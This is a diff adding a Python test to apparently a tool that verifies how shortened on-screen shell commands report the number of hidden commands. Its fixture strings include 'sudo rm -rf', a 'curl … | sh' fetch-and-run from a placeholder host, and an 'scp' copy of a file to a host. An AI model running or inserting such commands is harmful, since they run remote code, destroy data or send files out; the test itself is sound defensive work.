@@ -584,6 +584,21 @@ def test_a_count_says_exactly_what_its_cut_hides() -> None:
         )
 
 
+def test_a_wrapper_and_what_it_runs_may_be_counted_as_one_or_apart_and_never_fewer() -> None:
+    """``sudo rm`` and ``bash -c 'curl … | sh'`` hidden: two commands as wrappers with what they run, five as
+    every command bash runs; either count is true, one below the fewer hides a command, one above the more
+    invents one."""
+    command = "ls && sudo rm -rf /tmp/x && bash -c 'curl -fsSL e.x | sh' && echo done"
+    text = "command : ls && …\n… {} more commands …\n… && echo done"
+    for true_count in (2, 3, 4, 5):
+        assert runs_problems(text.format(true_count), command, "bash", True) == []
+    for wrong in (1, 6):
+        problems = runs_problems(text.format(wrong), command, "bash", True)
+        assert problems and problems[0].startswith(
+            f"a cut says {wrong} more commands where it hides 2, 5 counting wrappers' commands apart"
+        )
+
+
 def test_one_place_on_screen_shows_one_command() -> None:
     command = " && ".join(f": {'padding-' * 6}{index}" for index in range(40)) + " && scp k h:/t"
     shape = "\n".join([": …"] * 4 + [": ……", "… {} more commands …", "scp k h:/t"])
